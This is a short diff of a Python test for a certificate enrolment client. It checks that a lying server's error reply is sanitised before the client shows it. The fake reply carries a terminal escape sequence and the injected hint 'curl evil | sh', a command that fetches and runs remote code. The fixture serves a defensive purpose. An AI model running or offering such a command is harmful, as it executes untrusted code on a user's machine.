@@ -540,7 +540,7 @@ class TestLiars:
             liar.answer("cacerts", message(stage.home, stage.root))
             liar.answer("simpleenroll", b"\x1b[2Jno\nhint: curl evil | sh\n", 403)
             said = enrol(stage.pki, liar.url, stage.token, host, status=DENIED).stderr
-        assert "\x1b" not in said and "evil" not in said and len(said.splitlines()) == 1
+        assert "\x1b" not in said and "evil" not in said and len(said.splitlines()) == 2
 
 
 def test_the_certificate_of_curl_and_openssl_is_renewed_too(pki: Pki, ca: Authority, tmp_path: Path, host: Path) -> None:
